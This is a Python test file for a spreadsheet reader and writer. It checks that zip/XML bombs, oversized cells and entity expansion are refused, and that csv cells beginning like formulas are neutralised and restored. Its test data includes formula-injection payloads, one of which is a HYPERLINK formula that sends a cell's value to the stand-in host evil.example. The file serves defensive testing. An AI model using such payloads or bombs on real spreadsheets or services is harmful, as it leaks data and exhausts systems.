"""The one spreadsheet reader and the writers' formula guard (xiaoqu.core.spreadsheets).

Reading: values as openpyxl reads them; every bound (uncompressed size, rows with empty rows
counted, cell length with shared strings counted, columns) refused with a message naming the
file and the bound, within a memory ceiling. Writing: text stays text in xlsx, and csv cells
that a spreadsheet would run are neutralised in a way the reader undoes exactly.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import itertools

import pytest
from openpyxl import Workbook as OpenpyxlWorkbook
from openpyxl import load_workbook

from tests.core import bombs
from xiaoqu.core import spreadsheets as sheets
from xiaoqu.core.spreadsheets import (
    SpreadsheetRefused,
    command_limits,
    csv_rows,
    from_csv_cell,
    open_workbook,
    to_csv_cell,
    upload_limits,
    xlsx_cell,
    xlsx_row,
)


def rows_of(data: bytes, limits=None, name: str = "表.xlsx") -> list[list[str]]:
    book = open_workbook(data, name=name, limits=limits or command_limits())
    with book:
        return list(book.sheets[0].rows())


def refusal(data: bytes, limits=None, name: str = "表.xlsx") -> SpreadsheetRefused:
    with bombs.memory_ceiling(), pytest.raises(SpreadsheetRefused) as caught:
        rows_of(data, limits, name)
    assert caught.value.message  # never an empty reason
    return caught.value


# --- reading values ---------------------------------------------------------------------------


def test_a_workbook_reads_as_openpyxl_reads_it():
    """Text, whole and decimal numbers, dates by their format, booleans, gaps: as openpyxl."""
    book = OpenpyxlWorkbook()
    sheet = book.active
    sheet.append(["名称", 3, 2.5, 4.0, True, dt.date(2026, 3, 5), dt.datetime(2026, 3, 5, 9, 30)])
    sheet.append([])
    sheet["C3"] = "隔一格"
    out = io.BytesIO()
    book.save(out)

    rows = rows_of(out.getvalue())

    assert rows == [
        ["名称", "3", "2.5", "4", "是", "2026-03-05", "2026-03-05"],
        [],
        ["", "", "隔一格"],
    ]
    expected = load_workbook(io.BytesIO(out.getvalue()), read_only=True, data_only=True)
    for ours, theirs in zip(rows, expected.active.iter_rows(values_only=True), strict=True):
        padded = ours + [""] * (len(theirs) - len(ours))
        assert padded == [sheets.cell_text(v) for v in theirs]


def test_shared_and_rich_strings_are_read_without_phonetic_runs():
    """Excel keeps text in shared strings, sometimes in runs and with phonetic guides."""
    sheet = (
        '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>'
        '<row r="3"><c r="B3" t="inlineStr"><is><t>行内</t></is></c></row>'
    )
    rich = "<r><t>富</t></r><r><t>文本</t></r><rPh sb='0' eb='1'><t>フ</t></rPh>"
    data = bombs.workbook(sheet, shared=["<t>普通</t>", rich])

    assert rows_of(data) == [["普通", "富文本"], [], ["", "行内"]]


def test_a_row_number_is_the_one_excel_shows():
    """Rows the sheet leaves out are read as empty rows, so row 5 is the fifth row read."""
    data = bombs.workbook('<row r="5"><c r="A5"><v>1</v></c></row>')

    assert rows_of(data) == [[], [], [], [], ["1"]]


# --- bounds -----------------------------------------------------------------------------------


def test_the_probes_16_million_empty_rows_are_refused_by_size_when_uploaded():
    """An upload may uncompress to 32 MB; the same file is refused before any row is parsed."""
    error = refusal(bombs.rows_bomb(), upload_limits(), name="bomb.xlsx")

    assert error.code == "too_large"
    assert "bomb.xlsx" in error.message and "32 MB" in error.message


def test_rows_beyond_the_bound_by_number_are_refused():
    """One row numbered past the bound is refused at once (no empty rows are made up to it)."""
    data = bombs.workbook('<row r="1048576000"><c r="A1048576000"><v>1</v></c></row>')

    assert refusal(data).code == "too_many_rows"


def test_a_two_gigabyte_shared_string_is_refused_by_its_declared_size():
    """The probe's 2 MB workbook holding a 2 GB shared string: refused before decompressing."""
    data = bombs.shared_string_bomb()
    assert len(data) < 3_000_000

    error = refusal(data, name="text.xlsx")

    assert error.code == "too_large" and "text.xlsx" in error.message


def test_a_shared_string_longer_than_a_cell_is_refused_while_it_streams():
    """250 MB of text in one string, within the size bounds: counted as it streams, never held."""
    data = bombs.shared_string_bomb(chars=250 * 1024**2)

    with bombs.memory_ceiling(extra_mb=128), pytest.raises(SpreadsheetRefused) as caught:
        rows_of(data, name="text.xlsx")

    assert caught.value.code == "cell_too_long"
    assert "text.xlsx" in caught.value.message and "32,767" in caught.value.message


def test_a_part_whose_real_size_disagrees_with_the_declared_one_is_refused():
    """A part that claims 1 KB but inflates to 2 GB is cut at 1 KB and refused."""
    error = refusal(bombs.shared_string_bomb(declared=1024), name="lies.xlsx")

    assert error.code == "damaged" and "lies.xlsx" in error.message


def test_an_inline_cell_longer_than_the_bound_is_refused(settings):
    """The cell bound holds for text written in the sheet itself as well."""
    settings.XIAOQU_SHEET_MAX_CELL_CHARS = 100
    data = bombs.workbook(
        '<row r="2"><c r="A2" t="inlineStr"><is><t>' + "长" * 101 + "</t></is></c></row>"
    )

    error = refusal(data)

    assert error.code == "cell_too_long" and "第 2 行" in error.message


def test_a_value_beyond_the_column_bound_is_refused():
    """A value in column XFD would make every row 16,384 cells wide."""
    data = bombs.workbook('<row r="1"><c r="XFD1"><v>1</v></c></row>')

    assert refusal(data).code == "too_many_columns"


def test_a_document_type_declaration_is_refused():
    """Entity expansion (billion laughs) is never attempted."""
    sheet = (
        '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]>'
        f'<worksheet xmlns="{bombs.MAIN}"><sheetData><row><c t="inlineStr"><is><t>&b;</t></is>'
        "</c></row></sheetData></worksheet>"
    )
    data = bombs.raw_zip(
        [
            *bombs.skeleton_parts("意见"),
            ("xl/worksheets/sheet1.xml", *bombs.deflate(sheet.encode())),
        ]
    )

    assert refusal(data).code == "damaged"


def test_elements_that_are_not_cells_are_bounded(monkeypatch):
    """Elements that hold no value cost time, not rows: refused past a fixed number."""
    monkeypatch.setattr(sheets, "MAX_ELEMENTS", 100_000)
    sheet = bombs.repeated_part(
        bombs.SHEET_HEAD.encode(), b"<x/>", 1_000_000, bombs.SHEET_TAIL.encode()
    )
    data = bombs.raw_zip([*bombs.skeleton_parts("意见"), ("xl/worksheets/sheet1.xml", *sheet)])

    assert refusal(data).code == "damaged"


def test_a_file_that_is_not_a_zip_is_refused_with_its_name():
    """Not a workbook: the message names the file."""
    error = refusal(b"PK\x03\x04 not really", name="坏.xlsx")

    assert error.code == "damaged" and "坏.xlsx" in error.message


def test_bounds_are_read_from_the_settings_when_a_file_is_opened(settings):
    """A deployment may tighten a bound without a restart of the code that reads it."""
    data = bombs.workbook(
        "".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in (1, 2, 3))
    )
    settings.XIAOQU_SHEET_MAX_ROWS = 2

    assert refusal(data).code == "too_many_rows"


# --- csv --------------------------------------------------------------------------------------


def csv_refusal(data: bytes, limits=None, extra_mb: int = 768) -> SpreadsheetRefused:
    with bombs.memory_ceiling(extra_mb), pytest.raises(SpreadsheetRefused) as caught:
        list(csv_rows(data, name="表.csv", limits=limits or command_limits()))
    assert caught.value.message and "表.csv" in caught.value.message
    return caught.value


def test_csv_in_utf8_with_bom_and_in_gbk_reads_the_same():
    """The encodings people's spreadsheets save."""
    text = "小区名称,楼栋号\r\n东风小区,3\r\n"
    for data in (text.encode("utf-8"), text.encode("utf-8-sig"), text.encode("gbk")):
        rows = list(csv_rows(data, name="a.csv", limits=command_limits()))
        assert rows == [["小区名称", "楼栋号"], ["东风小区", "3"]]


def test_csv_blank_lines_count_as_rows(settings):
    """16.7 million empty lines are refused at the row bound like empty <row/> elements."""
    settings.XIAOQU_SHEET_MAX_ROWS = 1000

    assert csv_refusal(b"a,b\n" + b"\n" * 5000).code == "too_many_rows"


def test_a_csv_line_without_end_is_refused_without_being_held():
    """One 200 MB line is read no further than a row may reach."""
    data = b"a," + b"x" * (200 * 1024**2)

    assert csv_refusal(data, extra_mb=64).code == "cell_too_long"


def test_a_long_csv_cell_is_refused(settings):
    """A quoted cell past the bound, even across lines."""
    settings.XIAOQU_SHEET_MAX_CELL_CHARS = 50
    data = ('a,b\n1,"' + "长\n" * 40 + '"\n').encode()

    assert csv_refusal(data).code == "cell_too_long"


def test_a_csv_larger_than_the_bound_is_refused_before_reading(settings):
    """The size of a csv is its uncompressed size."""
    settings.XIAOQU_UPLOAD_SHEET_MAX_BYTES = 1024

    assert csv_refusal(b"a\n" * 1000, upload_limits()).code == "too_large"


def test_a_csv_that_is_not_utf8_or_gbk_is_refused_with_its_name():
    """UTF-16 (Excel's "Unicode text") is refused by name."""
    error = csv_refusal("名称\r\n东风\r\n".encode("utf-16"))

    assert error.code == "encoding"


# --- formulas in what we write ----------------------------------------------------------------

RISKY = [
    "=1+1",
    "@SUM(A1)",
    "+86 小区",
    "-1+1",
    "\tTAB",
    "\rCR",
    '=HYPERLINK("http://evil.example/?leak="&B5,"点此查看")',
]


@pytest.mark.parametrize("value", RISKY)
def test_a_csv_cell_that_a_spreadsheet_would_run_is_neutralised(value):
    """The written cell begins with an apostrophe, so no spreadsheet runs it."""
    assert to_csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["东风小区", "3", "-12.5", "", "a=b", "'引号", "1-2"])
def test_ordinary_values_are_written_and_read_unchanged(value):
    """Nothing happens to a value that does not begin like a formula."""
    assert to_csv_cell(value) == value
    assert from_csv_cell(value) == value


def test_every_value_survives_a_csv_round_trip():
    """Whatever the exporter neutralises, the importer restores exactly (every short value
    made of the characters that matter, and of ordinary ones)."""
    alphabet = ["'", "=", "+", "-", "@", "\t", "\r", "1", "a", " ", "小"]
    for length in range(4):
        for chars in itertools.product(alphabet, repeat=length):
            value = "".join(chars)
            assert from_csv_cell(to_csv_cell(value)) == value


def test_neutralised_cells_round_trip_through_a_csv_file():
    """Written with csv_row and read with csv_rows: the same values."""
    values = [*RISKY, "'=already quoted", "''", "普通"]
    out = io.StringIO()
    csv.writer(out).writerow(sheets.csv_row(values))

    rows = list(csv_rows(out.getvalue().encode(), name="r.csv", limits=command_limits()))

    assert rows == [values]


def test_xlsx_writers_keep_formula_like_text_as_text():
    """A normal and a write-only sheet both store "=…" and "#N/A" as text cells."""
    value = RISKY[-1]
    book = OpenpyxlWorkbook()
    sheet = book.active
    xlsx_cell(sheet, 1, 1, value)
    sheet.append(xlsx_row(sheet, [value, "#N/A", 3]))
    streaming = OpenpyxlWorkbook(write_only=True)
    ws = streaming.create_sheet("s")
    ws.append(xlsx_row(ws, [value, "#N/A", "普通"]))
    for workbook in (book, streaming):
        out = io.BytesIO()
        workbook.save(out)
        read = load_workbook(io.BytesIO(out.getvalue()))
        cells = [c for row in read.worksheets[0].iter_rows() for c in row if c.value is not None]
        assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
        assert value in [c.value for c in cells] and "#N/A" in [c.value for c in cells]
